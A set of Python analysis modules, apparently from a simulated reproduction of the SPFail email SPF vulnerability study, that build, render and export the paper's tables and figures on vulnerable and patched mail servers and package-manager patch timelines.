            for b in buckets
        ]
        blocks.append(
            render_table(headers, body, title=f"Figure 4{label}: vulnerable by rank")
        )
    return "\n\n".join(blocks)
