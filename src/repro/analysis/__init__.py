"""Analysis builders — one module per paper table/figure.

Every experiment in the paper's evaluation has a ``build_*`` function
returning structured rows and a ``render_*`` function producing the
paper's layout as text:

========  =====================================================  =============
artifact  what the paper reports                                 module
========  =====================================================  =============
Table 1   overlap between domain sets                            ``table1``
Table 2   most common TLDs per set                               ``table2``
Table 3   NoMsg/BlankMsg outcomes by domain set                  ``table3``
Table 4   initial SPF results breakdown                          ``table4``
Table 5   best/worst TLD patch rates                             ``table5``
Table 6   package-manager patch timeline                         ``table6``
Table 7   SPF macro-expansion behaviors by IP                    ``table7``
Figure 2  final patched/vulnerable/unknown distribution          ``figure2``
Figure 3  geographic distribution of vulnerable/patched IPs      ``figure3``
Figure 4  vulnerability and patching by site ranking             ``figure4``
Figure 5  conclusive results over time                           ``figure5``
Figure 6  vulnerability rates, first window                      ``figure6``
Figure 7  vulnerability rates, full period                       ``figure7``
Figure 8  Alexa Top 1000 conclusive results over time            ``figure8``
§7.7      private-notification funnel                            ``notification_funnel``
========  =====================================================  =============
"""

from .table1 import build_table1, render_table1
from .table2 import build_table2, render_table2
from .table3 import build_table3, render_table3
from .table4 import build_table4, render_table4
from .table5 import build_table5, render_table5
from .table6 import build_table6, render_table6
from .table7 import build_table7, render_table7
from .figure2 import build_figure2, render_figure2
from .figure3 import build_figure3, render_figure3
from .figure4 import build_figure4, render_figure4
from .figure5 import build_figure5, render_figure5
from .figure6 import build_figure6, render_figure6
from .figure7 import build_figure7, render_figure7
from .figure8 import build_figure8, render_figure8
from .notification_funnel import build_notification_funnel, render_notification_funnel

__all__ = [
    "build_table1", "render_table1",
    "build_table2", "render_table2",
    "build_table3", "render_table3",
    "build_table4", "render_table4",
    "build_table5", "render_table5",
    "build_table6", "render_table6",
    "build_table7", "render_table7",
    "build_figure2", "render_figure2",
    "build_figure3", "render_figure3",
    "build_figure4", "render_figure4",
    "build_figure5", "render_figure5",
    "build_figure6", "render_figure6",
    "build_figure7", "render_figure7",
    "build_figure8", "render_figure8",
    "build_notification_funnel", "render_notification_funnel",
]
