"""Figure 8 — conclusive results over time, Alexa Top 1000 only.

The paper's most prominent outlier: 28 of the top 1000 domains were
initially vulnerable, conclusive measurements for many of them dried up
around mid-November (blacklisting/moves), the longitudinal series showed
no patching at all, and only the final snapshot — with freshly resolved
addresses — could settle most of them (a handful patched).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List

from ..core.campaign import DomainStatus
from ..core.inference import RoundSummary
from ..internet.population import DomainSet
from ..simulation import Simulation
from .formatting import render_table


@dataclass
class Figure8:
    series: List[RoundSummary]
    initially_vulnerable: int
    snapshot_patched: int
    snapshot_vulnerable: int
    snapshot_unknown: int


def build_figure8(sim: Simulation) -> Figure8:
    result = sim.run()
    engine = sim.inference()
    names = [
        name
        for name in result.initial.vulnerable_domains()
        if sim.population.get(name) is not None
        and sim.population.get(name).in_set(DomainSet.ALEXA_1000)
    ]
    series = engine.round_summaries_domains(names)
    snapshot = {name: result.snapshot_status.get(name) for name in names}
    return Figure8(
        series=series,
        initially_vulnerable=len(names),
        snapshot_patched=sum(1 for s in snapshot.values() if s == DomainStatus.PATCHED),
        snapshot_vulnerable=sum(
            1 for s in snapshot.values() if s == DomainStatus.VULNERABLE
        ),
        snapshot_unknown=sum(
            1
            for s in snapshot.values()
            if s not in (DomainStatus.PATCHED, DomainStatus.VULNERABLE)
        ),
    )


def render_figure8(figure: Figure8) -> str:
    headers = ["Date", "Measured", "Inferred", "Inconclusive", "Vulnerable", "Patched"]
    body = [
        [
            s.date.date().isoformat(),
            f"{s.measured:,}",
            f"{s.inferred:,}",
            f"{s.inconclusive:,}",
            f"{s.vulnerable:,}",
            f"{s.patched:,}",
        ]
        for s in figure.series
    ]
    rendered = render_table(
        headers,
        body,
        title="Figure 8: Conclusive results over time (Alexa Top 1000)",
    )
    return rendered + (
        f"\nInitially vulnerable top-1000 domains: {figure.initially_vulnerable}"
        f"\nFinal snapshot: {figure.snapshot_patched} patched, "
        f"{figure.snapshot_vulnerable} vulnerable, {figure.snapshot_unknown} unknown"
    )
