"""Markdown experiment report: paper vs. measured, for every artifact.

``generate_report(sim)`` produces the document that EXPERIMENTS.md is
built from: a paper-target scorecard followed by every regenerated table
and figure, plus run provenance (scale, seed, population sizes).
"""

from __future__ import annotations

import io
from typing import List, Optional

from ..simulation import Simulation
from . import (
    build_figure2,
    build_figure3,
    build_figure4,
    build_figure5,
    build_figure6,
    build_figure7,
    build_figure8,
    build_notification_funnel,
    build_table1,
    build_table2,
    build_table3,
    build_table4,
    build_table5,
    build_table6,
    build_table7,
    render_figure2,
    render_figure3,
    render_figure4,
    render_figure5,
    render_figure6,
    render_figure7,
    render_figure8,
    render_notification_funnel,
    render_table1,
    render_table2,
    render_table3,
    render_table4,
    render_table5,
    render_table6,
    render_table7,
)
from .paper_targets import TargetResult, evaluate_targets


def _scorecard(results: List[TargetResult]) -> str:
    lines = [
        "| paper claim | source | paper | measured | band | ok |",
        "|---|---|---|---|---|---|",
    ]
    for item in results:
        target = item.target
        measured = "-" if item.measured is None else f"{item.measured:.3f}"
        check = "yes" if item.within_band else "NO"
        lines.append(
            f"| {target.description} | {target.source} | "
            f"{target.paper_value:.3f} | {measured} | "
            f"[{target.band[0]:.2f}, {target.band[1]:.2f}] | {check} |"
        )
    return "\n".join(lines)


def generate_report(sim: Simulation, *, title: str = "SPFail reproduction report") -> str:
    """The full markdown report for one completed run."""
    result = sim.run()
    out = io.StringIO()
    write = lambda *parts: print(*parts, file=out)

    write(f"# {title}")
    write()
    write(
        f"Run provenance: scale={sim.population.config.scale}, "
        f"seed={sim.population.config.seed}; "
        f"{len(sim.population):,} domains, {len(sim.fleet.units):,} hosting "
        f"units, {sim.fleet.total_ip_count():,} addresses; "
        f"{len(result.initial.ip_records):,} addresses probed, "
        f"{len(result.initial.vulnerable_ips()):,} vulnerable "
        f"({len(result.initial.vulnerable_domains()):,} domains); "
        f"{len(result.rounds)} longitudinal rounds."
    )
    provenance = getattr(sim, "provenance", None)
    if provenance is not None:
        write()
        write(
            f"Resumed from checkpoint: {provenance.checkpoint_kind!r} with "
            f"{provenance.rounds_completed} rounds completed "
            f"(run {provenance.run_id}, config "
            f"{provenance.config_hash[:12]}); campaign artifacts are "
            f"byte-identical to an uninterrupted run of the same config."
        )
    write()
    write("## Paper-target scorecard")
    write()
    results = evaluate_targets(sim)
    write(_scorecard(results))
    write()
    write("## Probe-execution metrics")
    write()
    executor = sim.campaign.executor
    write(
        f"Executor: {type(executor).__name__} "
        f"(results are byte-identical across strategies for the same seed)."
    )
    write()
    write(executor.metrics.render_markdown())
    write()
    write("## Observability")
    write()
    if sim.observation is not None:
        obs = sim.observation
        write(
            f"Trace events captured: {len(obs.tracer.events()):,} "
            f"(tracing {'enabled' if obs.tracer.enabled else 'disabled'})."
        )
        write()
        write(obs.metrics.render_markdown())
        percentiles = {
            name: summary
            for name, summary in obs.metrics.percentiles().items()
            if summary.get("count")
        }
        if percentiles:
            write()
            write("### Histogram percentiles")
            write()
            write("| histogram | count | p50 | p90 | p99 |")
            write("|---|---|---|---|---|")
            for name, summary in percentiles.items():
                write(
                    f"| {name} | {summary['count']} | {summary['p50']:.3g} "
                    f"| {summary['p90']:.3g} | {summary['p99']:.3g} |"
                )
        if obs.tracer.enabled and obs.tracer.events():
            from ..obs.analyze import TraceAnalysis

            trace_analysis = TraceAnalysis.from_tracer(obs.tracer)
            write()
            write("### Trace analysis")
            write()
            write(trace_analysis.render_stage_table())
            write()
            write(trace_analysis.render_span_table())
            write()
            write("Critical path (virtual time):")
            write()
            write(trace_analysis.render_critical_path())
    else:
        write(
            "Observability disabled for this run. Re-run with `--trace` / "
            "`--metrics-out` to capture virtual-time spans and metrics."
        )
    write()
    write("### World cache efficiency")
    write()
    write(
        "Deterministic access counters from the lazy world — a pure "
        "function of the probe pattern, so they are identical with or "
        "without `--perf` (wall-clock telemetry lives in the perf "
        "sideband, never here)."
    )
    write()
    from ..obs.perf import campaign_counters

    counters = campaign_counters(sim.campaign)
    write("| counter | value |")
    write("|---|---|")
    for name in sorted(counters):
        write(f"| {name} | {counters[name]:,} |")
    write()

    blocks = [
        render_table1(build_table1(sim.population)),
        render_table2(build_table2(sim.population)),
        render_table3(build_table3(sim.population, result.initial)),
        render_table4(build_table4(sim.population, result.initial)),
        render_table5(build_table5(sim)),
        render_table6(build_table6()),
        render_table7(build_table7(result.initial)),
        render_figure2(build_figure2(sim)),
        render_figure3(build_figure3(sim)),
        render_figure4(build_figure4(sim)),
        render_figure5(build_figure5(sim)),
        render_figure6(build_figure6(sim)),
        render_figure7(build_figure7(sim)),
        render_figure8(build_figure8(sim)),
        render_notification_funnel(build_notification_funnel(sim)),
    ]
    write("## Regenerated artifacts")
    write()
    for block in blocks:
        write("```")
        write(block)
        write("```")
        write()
    return out.getvalue()


def targets_all_within_band(sim: Simulation) -> bool:
    """True if every encoded paper claim lands in its tolerance band."""
    return all(item.within_band for item in evaluate_targets(sim))
