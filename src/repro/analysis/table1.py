"""Table 1 — overlap in domain measurement sets.

Each cell is the number (and share) of domains in the row's set that also
appear in the column's set.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Tuple

from ..internet.population import DomainPopulation, DomainSet
from .formatting import count_pct, render_table

_SETS: Tuple[Tuple[str, DomainSet], ...] = (
    ("2-Week MX", DomainSet.TWO_WEEK_MX),
    ("Alexa 1000", DomainSet.ALEXA_1000),
    ("Alexa Top List", DomainSet.ALEXA_TOP_LIST),
)


@dataclass
class Table1Row:
    row_set: str
    row_size: int
    cells: Dict[str, int]  # column set name -> overlap count


def build_table1(population: DomainPopulation) -> List[Table1Row]:
    rows: List[Table1Row] = []
    for row_name, row_set in _SETS:
        cells = {
            col_name: population.overlap(row_set, col_set)
            for col_name, col_set in _SETS
        }
        rows.append(
            Table1Row(row_set=row_name, row_size=population.set_size(row_set), cells=cells)
        )
    return rows


def render_table1(rows: List[Table1Row]) -> str:
    headers = ["Domain Set"] + [name for name, _ in _SETS]
    body = [
        [row.row_set]
        + [count_pct(row.cells[name], row.row_size) for name, _ in _SETS]
        for row in rows
    ]
    return render_table(
        headers, body, title="Table 1: Overlap in domain measurement sets"
    )
