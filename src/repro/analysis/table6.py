"""Table 6 — package-manager patch timeline.

This table is recorded history rather than a measurement, so it is
reproduced directly from the encoded timeline in
:mod:`repro.internet.package_managers` — verbatim paper data, ordered by
days between disclosure and patch.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional

from ..internet.package_managers import (
    PACKAGE_MANAGER_TIMELINE,
    PackageManagerRecord,
)
from .formatting import render_table


@dataclass
class Table6Row:
    manager: str
    days_20314: Optional[int]
    date_20314: Optional[str]
    days_33912: Optional[int]
    date_33912: Optional[str]
    folded: bool


def build_table6() -> List[Table6Row]:
    rows = [
        Table6Row(
            manager=record.name,
            days_20314=record.days_to_patch_20314(),
            date_20314=(
                record.cve_20314_patch.date().isoformat()
                if record.cve_20314_patch
                else None
            ),
            days_33912=record.days_to_patch_33912(),
            date_33912=(
                record.cve_33912_patch.date().isoformat()
                if record.cve_33912_patch
                else None
            ),
            folded=record.folded_into_20314,
        )
        for record in PACKAGE_MANAGER_TIMELINE
    ]
    return sorted(
        rows, key=lambda r: (r.days_20314 is None, r.days_20314 or 0, r.manager)
    )


def _cell(days: Optional[int], date: Optional[str], folded: bool) -> str:
    if days is None:
        return "Unpatched"
    star = "*" if folded else ""
    return f"{days}{star} ({date})"


def render_table6(rows: List[Table6Row]) -> str:
    headers = ["Package Manager", "CVE-2021-20314", "CVE-2021-33912/13"]
    body = [
        [
            r.manager,
            _cell(r.days_20314, r.date_20314, False),
            _cell(r.days_33912, r.date_33912, r.folded),
        ]
        for r in rows
    ]
    table = render_table(
        headers,
        body,
        title="Table 6: Patch timeline for package managers (days from disclosure)",
    )
    return table + "\n*Patches included in CVE-2021-20314 fix"
