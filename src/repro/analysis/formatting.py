"""Plain-text table rendering for analysis output.

Every experiment builder pairs structured rows with a ``render_*``
function producing the same row/column layout the paper prints, so bench
output can be eyeballed against the paper directly.
"""

from __future__ import annotations

from typing import Iterable, List, Optional, Sequence


def render_table(
    headers: Sequence[str],
    rows: Iterable[Sequence[object]],
    *,
    title: Optional[str] = None,
) -> str:
    """Render rows as an aligned monospace table."""
    materialized: List[List[str]] = [[str(cell) for cell in row] for row in rows]
    widths = [len(h) for h in headers]
    for row in materialized:
        for i, cell in enumerate(row):
            if i < len(widths):
                widths[i] = max(widths[i], len(cell))
            else:
                widths.append(len(cell))

    def fmt_row(cells: Sequence[str]) -> str:
        return "  ".join(cell.ljust(widths[i]) for i, cell in enumerate(cells)).rstrip()

    lines: List[str] = []
    if title:
        lines.append(title)
        lines.append("=" * len(title))
    lines.append(fmt_row(list(headers)))
    lines.append(fmt_row(["-" * w for w in widths]))
    lines.extend(fmt_row(row) for row in materialized)
    return "\n".join(lines)


def pct(numerator: int, denominator: int) -> str:
    """A paper-style percentage cell."""
    if denominator == 0:
        return "-"
    value = 100.0 * numerator / denominator
    if value and value < 1.0:
        return f"{value:.1f}%"
    return f"{value:.0f}%"


def count_pct(numerator: int, denominator: int) -> str:
    """``1,234 (12%)`` style cell."""
    return f"{numerator:,} ({pct(numerator, denominator)})"


_SPARK_LEVELS = " .:-=+*#%@"


def sparkline(values: Sequence[float], *, low: Optional[float] = None,
              high: Optional[float] = None) -> str:
    """An ASCII sparkline for a time series (figures 5-8 at a glance).

    Values map onto ten density levels between ``low`` and ``high``
    (defaulting to the series' own range).
    """
    values = list(values)
    if not values:
        return ""
    floor = min(values) if low is None else low
    ceiling = max(values) if high is None else high
    span = ceiling - floor
    if span <= 0:
        return _SPARK_LEVELS[-1] * len(values)
    out = []
    for value in values:
        norm = (value - floor) / span
        index = min(len(_SPARK_LEVELS) - 1, max(0, int(norm * (len(_SPARK_LEVELS) - 1))))
        out.append(_SPARK_LEVELS[index])
    return "".join(out)
