"""Figure 5 — conclusive vulnerability results over time.

For every longitudinal round, how many initially vulnerable domains were
successfully measured, how many could be inferred (vulnerable-before /
patched-after rules), and how many were inconclusive.  Expected shape:
successful measurements fluctuate early and stabilize late in the first
window, while the inconclusive share grows as servers blacklist the
prober or move.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List

from ..core.inference import RoundSummary
from ..simulation import Simulation


@dataclass
class Figure5:
    series: List[RoundSummary]
    initially_vulnerable_domains: int
    initially_vulnerable_ips: int


def build_figure5(sim: Simulation) -> Figure5:
    result = sim.run()
    engine = sim.inference()
    return Figure5(
        series=engine.round_summaries_domains(),
        initially_vulnerable_domains=len(result.initial.vulnerable_domains()),
        initially_vulnerable_ips=len(result.initial.vulnerable_ips()),
    )


def render_figure5(figure: Figure5) -> str:
    from .formatting import render_table

    headers = ["Date", "Measured", "Inferred", "Inconclusive", "Conclusive %"]
    body = [
        [
            s.date.date().isoformat(),
            f"{s.measured:,}",
            f"{s.inferred:,}",
            f"{s.inconclusive:,}",
            f"{100.0 * s.conclusive / s.total:.0f}%" if s.total else "-",
        ]
        for s in figure.series
    ]
    rendered = render_table(
        headers,
        body,
        title="Figure 5: Conclusive vulnerability results over time (domains)",
    )
    return rendered + (
        f"\nInitially vulnerable: {figure.initially_vulnerable_domains:,} domains "
        f"on {figure.initially_vulnerable_ips:,} addresses"
    )
