"""CSV export for every experiment's structured rows.

Downstream analysis (plots, notebooks) wants machine-readable series, not
text tables.  ``export_all(sim, directory)`` writes one CSV per artifact.
"""

from __future__ import annotations

import csv
import io
import pathlib
from typing import Dict, Iterable, List, Sequence

from ..simulation import Simulation


def _write_csv(headers: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(headers)
    for row in rows:
        writer.writerow(row)
    return buffer.getvalue()


def table1_csv(sim: Simulation) -> str:
    from .table1 import build_table1

    rows = build_table1(sim.population)
    return _write_csv(
        ["row_set", "row_size"] + [r.row_set for r in rows],
        [[r.row_set, r.row_size] + [r.cells[c.row_set] for c in rows] for r in rows],
    )


def table4_csv(sim: Simulation) -> str:
    from .table4 import build_table4

    rows = build_table4(sim.population, sim.run().initial)
    return _write_csv(
        [
            "group", "ips_measured", "ips_vulnerable", "ips_erroneous",
            "ips_compliant", "domains_measured", "domains_vulnerable",
        ],
        [
            [
                r.group, r.ips_measured, r.ips_vulnerable, r.ips_erroneous,
                r.ips_compliant, r.domains_measured, r.domains_vulnerable,
            ]
            for r in rows
        ],
    )


def table7_csv(sim: Simulation) -> str:
    from .table7 import build_table7

    table = build_table7(sim.run().initial)
    return _write_csv(
        ["behavior", "ip_count"],
        [[behavior.value, count] for behavior, count in table.behavior_counts.items()]
        + [["multiple-patterns", table.multiple_patterns],
           ["total-measured", table.total_measured]],
    )


def figure5_csv(sim: Simulation) -> str:
    from .figure5 import build_figure5

    figure = build_figure5(sim)
    return _write_csv(
        ["date", "total", "measured", "inferred", "inconclusive", "vulnerable", "patched"],
        [
            [
                s.date.date().isoformat(), s.total, s.measured, s.inferred,
                s.inconclusive, s.vulnerable, s.patched,
            ]
            for s in figure.series
        ],
    )


def figure7_csv(sim: Simulation) -> str:
    from .figure7 import build_figure7

    figure = build_figure7(sim)
    if not figure.series or not figure.series[0].points:
        return _write_csv(["date"], [])
    headers = ["date"] + [s.group for s in figure.series]
    rows: List[List[object]] = []
    for i, point in enumerate(figure.series[0].points):
        row: List[object] = [point.date.date().isoformat()]
        for series in figure.series:
            summary = series.points[i]
            determinable = summary.vulnerable + summary.patched
            row.append(
                round(summary.vulnerable / determinable, 4) if determinable else ""
            )
        rows.append(row)
    return _write_csv(headers, rows)


def geography_csv(sim: Simulation) -> str:
    from .figure3 import build_figure3

    figure = build_figure3(sim)
    return _write_csv(
        ["country", "vulnerable_ips", "patched_ips", "patch_rate"],
        [
            [country, cell.vulnerable, cell.patched, round(cell.patch_rate, 4)]
            for country, cell in sorted(figure.countries.items())
        ],
    )


EXPORTERS = {
    "table1.csv": table1_csv,
    "table4.csv": table4_csv,
    "table7.csv": table7_csv,
    "figure5.csv": figure5_csv,
    "figure7.csv": figure7_csv,
    "geography.csv": geography_csv,
}


def export_all(sim: Simulation, directory) -> Dict[str, pathlib.Path]:
    """Write every exporter's CSV into ``directory``; returns the paths."""
    directory = pathlib.Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    written = {}
    for filename, exporter in EXPORTERS.items():
        path = directory / filename
        path.write_text(exporter(sim))
        written[filename] = path
    return written
