"""Figure 3 — geographic distribution of vulnerable and patched IPs.

The paper renders two choropleth maps; this builder produces the
underlying series: per geographic cell (and per country), the number of
vulnerable addresses and the fraction that eventually patched.  Expected
shape: vulnerable servers throughout populous regions with a European
concentration; near-zero patching in China/Taiwan, Russia, and Central
and South America; South Africa an outlier with majority patching.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Tuple

from ..simulation import Simulation
from .formatting import pct, render_table
from .status import final_ip_status


@dataclass
class GeoCell:
    cell: Tuple[int, int]
    vulnerable: int = 0
    patched: int = 0

    @property
    def patch_rate(self) -> float:
        return self.patched / self.vulnerable if self.vulnerable else 0.0


@dataclass
class Figure3:
    cells: Dict[Tuple[int, int], GeoCell]
    countries: Dict[str, GeoCell]
    cell_degrees: float


def build_figure3(sim: Simulation, *, cell_degrees: float = 10.0) -> Figure3:
    result = sim.run()
    patched = final_ip_status(sim)
    cells: Dict[Tuple[int, int], GeoCell] = {}
    countries: Dict[str, GeoCell] = {}
    for ip in result.initial.vulnerable_ips():
        location = sim.geography.locate(ip)
        if location is None:
            continue
        key = location.bucket(cell_degrees)
        cell = cells.setdefault(key, GeoCell(cell=key))
        country = countries.setdefault(
            location.country, GeoCell(cell=(0, 0))
        )
        for bucket in (cell, country):
            bucket.vulnerable += 1
            if patched.get(ip) is True:
                bucket.patched += 1
    return Figure3(cells=cells, countries=countries, cell_degrees=cell_degrees)


def render_figure3(figure: Figure3, *, top: int = 15) -> str:
    ranked = sorted(
        figure.countries.items(), key=lambda kv: (-kv[1].vulnerable, kv[0])
    )[:top]
    headers = ["Country", "Vulnerable IPs", "Patched", "Patch rate"]
    body = [
        [country, f"{cell.vulnerable:,}", f"{cell.patched:,}",
         pct(cell.patched, cell.vulnerable)]
        for country, cell in ranked
    ]
    rendered = render_table(
        headers,
        body,
        title="Figure 3: Geographic distribution of vulnerable/patched IPs",
    )
    return rendered + (
        f"\nGeographic cells with vulnerable IPs ({figure.cell_degrees}-degree "
        f"buckets): {len(figure.cells)}"
    )
