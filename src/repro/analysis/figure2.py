"""Figure 2 — overarching trends in domains patched.

The final (February) distribution of initially vulnerable domains across
patched / vulnerable / unknown, for each domain group.  The paper's
headline shape: ~15% patched overall, the Alexa Top 1000 patching least
(<10%), and the 2-Week MX set carrying the most inconclusive results.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Tuple

from ..core.campaign import DomainStatus
from ..internet.population import DomainSet
from ..simulation import Simulation
from .formatting import pct, render_table
from .status import final_domain_status

_GROUPS: Tuple[Tuple[str, Optional[DomainSet]], ...] = (
    ("All domains", None),
    ("Alexa Top List", DomainSet.ALEXA_TOP_LIST),
    ("Alexa 1000", DomainSet.ALEXA_1000),
    ("2-Week MX", DomainSet.TWO_WEEK_MX),
)


@dataclass
class Figure2Row:
    group: str
    total: int
    patched: int
    vulnerable: int
    unknown: int

    @property
    def patched_fraction(self) -> float:
        return self.patched / self.total if self.total else 0.0


def build_figure2(sim: Simulation) -> List[Figure2Row]:
    result = sim.run()
    status = final_domain_status(sim)
    rows: List[Figure2Row] = []
    for group_name, domain_set in _GROUPS:
        names = [
            name
            for name in result.initial.vulnerable_domains()
            if domain_set is None
            or (sim.population.get(name) is not None
                and sim.population.get(name).in_set(domain_set))
        ]
        patched = sum(1 for n in names if status.get(n) == DomainStatus.PATCHED)
        vulnerable = sum(1 for n in names if status.get(n) == DomainStatus.VULNERABLE)
        rows.append(
            Figure2Row(
                group=group_name,
                total=len(names),
                patched=patched,
                vulnerable=vulnerable,
                unknown=len(names) - patched - vulnerable,
            )
        )
    return rows


def render_figure2(rows: List[Figure2Row]) -> str:
    headers = ["Group", "Initially vulnerable", "Patched", "Vulnerable", "Unknown"]
    body = [
        [
            r.group,
            f"{r.total:,}",
            f"{r.patched:,} ({pct(r.patched, r.total)})",
            f"{r.vulnerable:,} ({pct(r.vulnerable, r.total)})",
            f"{r.unknown:,} ({pct(r.unknown, r.total)})",
        ]
        for r in rows
    ]
    return render_table(
        headers, body, title="Figure 2: Final vulnerability distribution (Feb 2022)"
    )
