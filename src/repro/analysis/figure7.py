"""Figure 7 — vulnerability rates per domain list, full period.

The same series as Figure 6 across both windows.  Expected shape: a
visible drop right after the 2022-01-19 public disclosure (coinciding
with the Debian package fix), largest in the Alexa Top List, ending with
just over 80% of inferable domains still vulnerable.
"""

from __future__ import annotations

import datetime as _dt
from dataclasses import dataclass
from typing import List

from ..clock import PUBLIC_DISCLOSURE
from ..simulation import Simulation
from .figure6 import VulnerabilitySeries, _series_for, render_vulnerability_series


@dataclass
class Figure7:
    series: List[VulnerabilitySeries]
    public_disclosure: _dt.datetime

    def final_vulnerable_fraction(self) -> float:
        """Share still vulnerable at the last round, across all sets."""
        vulnerable = patched = 0
        for s in self.series:
            if s.points:
                vulnerable += s.points[-1].vulnerable
                patched += s.points[-1].patched
        determinable = vulnerable + patched
        return vulnerable / determinable if determinable else 0.0


def build_figure7(sim: Simulation) -> Figure7:
    engine = sim.inference()
    return Figure7(
        series=_series_for(sim, engine, None),
        public_disclosure=PUBLIC_DISCLOSURE,
    )


def render_figure7(figure: Figure7) -> str:
    rendered = render_vulnerability_series(
        figure.series,
        "Figure 7: Vulnerability rate per domain list (full period)",
    )
    return rendered + (
        f"\nPublic disclosure: {figure.public_disclosure.date().isoformat()}"
        f"\nStill vulnerable at end: {100.0 * figure.final_vulnerable_fraction():.0f}%"
    )
