"""Table 3 — NoMsg/BlankMsg test outcomes by domain set.

The buckets, per the paper's accounting (disjoint within each test):

- **Connection Refused** — the address accepted no TCP connection;
- **NoMsg Test** — everything that connected;

  - *SMTP Failure* — the dialogue broke without SPF evidence,
  - *SPF Measured* — conclusive macro-expansion queries observed,
  - *SPF Not Measured* — dialogue fine, no SPF activity;
- **BlankMsg Test** — the SPF-Not-Measured remainder, re-probed with an
  empty message, with the same three sub-buckets;
- **Total SPF Measured** — conclusive from either test.

Domain-level counts aggregate over each domain's addresses: a domain is
refused only if *all* its addresses refused, and measured if *any* was.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Set, Tuple

from ..core.campaign import InitialMeasurement
from ..core.detector import DetectionOutcome, ProbeMethod
from ..internet.population import DomainPopulation, DomainSet
from .formatting import count_pct, render_table

_GROUPS: Tuple[Tuple[str, DomainSet], ...] = (
    ("Alexa Top List", DomainSet.ALEXA_TOP_LIST),
    ("2-Week MX", DomainSet.TWO_WEEK_MX),
    ("Top Email Providers", DomainSet.TOP_EMAIL_PROVIDERS),
)


@dataclass
class OutcomeBuckets:
    """One unit of Table 3 accounting (addresses or domains)."""

    total: int = 0
    refused: int = 0
    nomsg_tested: int = 0
    nomsg_failure: int = 0
    nomsg_measured: int = 0
    nomsg_not_measured: int = 0
    blankmsg_tested: int = 0
    blankmsg_failure: int = 0
    blankmsg_measured: int = 0
    blankmsg_not_measured: int = 0
    total_measured: int = 0


@dataclass
class Table3Column:
    group: str
    addresses: OutcomeBuckets
    domains: OutcomeBuckets


def _ip_buckets(initial: InitialMeasurement, ips: Sequence[str]) -> OutcomeBuckets:
    buckets = OutcomeBuckets(total=len(ips))
    for ip in ips:
        record = initial.ip_records.get(ip)
        if record is None:
            continue
        outcome = record.outcome
        nomsg = record.result.method_outcomes.get(ProbeMethod.NOMSG)
        blankmsg = record.result.method_outcomes.get(ProbeMethod.BLANKMSG)
        if outcome == DetectionOutcome.REFUSED:
            buckets.refused += 1
            continue
        buckets.nomsg_tested += 1
        if nomsg is not None and nomsg.spf_measured:
            buckets.nomsg_measured += 1
        elif nomsg == DetectionOutcome.NO_SPF:
            buckets.nomsg_not_measured += 1
        else:
            buckets.nomsg_failure += 1
            continue
        if nomsg == DetectionOutcome.NO_SPF:
            buckets.blankmsg_tested += 1
            if blankmsg is not None and blankmsg.spf_measured:
                buckets.blankmsg_measured += 1
            elif blankmsg == DetectionOutcome.NO_SPF or blankmsg is None:
                buckets.blankmsg_not_measured += 1
            else:
                buckets.blankmsg_failure += 1
    buckets.total_measured = buckets.nomsg_measured + buckets.blankmsg_measured
    return buckets


def _domain_buckets(
    initial: InitialMeasurement, names: Sequence[str]
) -> OutcomeBuckets:
    buckets = OutcomeBuckets(total=len(names))
    for name in names:
        ips = initial.domain_ips.get(name, [])
        records = [initial.ip_records[ip] for ip in ips if ip in initial.ip_records]
        if not records:
            buckets.refused += 1
            continue
        outcomes = [r.outcome for r in records]
        if all(o == DetectionOutcome.REFUSED for o in outcomes):
            buckets.refused += 1
            continue
        buckets.nomsg_tested += 1
        nomsgs = [
            r.result.method_outcomes.get(ProbeMethod.NOMSG)
            for r in records
            if r.outcome != DetectionOutcome.REFUSED
        ]
        blanks = [
            r.result.method_outcomes.get(ProbeMethod.BLANKMSG) for r in records
        ]
        if any(o is not None and o.spf_measured for o in nomsgs):
            buckets.nomsg_measured += 1
        elif any(o == DetectionOutcome.NO_SPF for o in nomsgs):
            buckets.nomsg_not_measured += 1
        else:
            buckets.nomsg_failure += 1
            continue
        if any(o == DetectionOutcome.NO_SPF for o in nomsgs):
            buckets.blankmsg_tested += 1
            if any(o is not None and o.spf_measured for o in blanks):
                buckets.blankmsg_measured += 1
            elif all(o is None or o == DetectionOutcome.NO_SPF for o in blanks):
                buckets.blankmsg_not_measured += 1
            else:
                buckets.blankmsg_failure += 1
        if any(
            r.outcome.spf_measured for r in records
        ):
            buckets.total_measured += 1
    return buckets


def build_table3(
    population: DomainPopulation, initial: InitialMeasurement
) -> List[Table3Column]:
    columns: List[Table3Column] = []
    for group_name, domain_set in _GROUPS:
        names = [d.name for d in population.in_set(domain_set)]
        ip_set: List[str] = []
        seen: Set[str] = set()
        for name in names:
            for ip in initial.domain_ips.get(name, []):
                if ip not in seen:
                    seen.add(ip)
                    ip_set.append(ip)
        columns.append(
            Table3Column(
                group=group_name,
                addresses=_ip_buckets(initial, ip_set),
                domains=_domain_buckets(initial, names),
            )
        )
    return columns


_ROWS: Tuple[Tuple[str, str, str], ...] = (
    # (label, attribute, denominator attribute)
    ("Total Tested", "total", "total"),
    ("Connection Refused", "refused", "total"),
    ("NoMsg Test", "nomsg_tested", "total"),
    ("  SMTP Failure", "nomsg_failure", "nomsg_tested"),
    ("  SPF Measured", "nomsg_measured", "nomsg_tested"),
    ("  SPF Not Measured", "nomsg_not_measured", "nomsg_tested"),
    ("BlankMsg Test", "blankmsg_tested", "total"),
    ("  SMTP Failure", "blankmsg_failure", "blankmsg_tested"),
    ("  SPF Measured", "blankmsg_measured", "blankmsg_tested"),
    ("  SPF Not Measured", "blankmsg_not_measured", "blankmsg_tested"),
    ("Total SPF Measured", "total_measured", "total"),
)


def render_table3(columns: List[Table3Column]) -> str:
    headers = [""]
    for column in columns:
        headers.extend([f"{column.group} domains", f"{column.group} addrs"])
    body: List[List[str]] = []
    for label, attribute, denominator in _ROWS:
        row = [label]
        for column in columns:
            for buckets in (column.domains, column.addresses):
                row.append(
                    count_pct(
                        getattr(buckets, attribute), getattr(buckets, denominator)
                    )
                )
        body.append(row)
    return render_table(
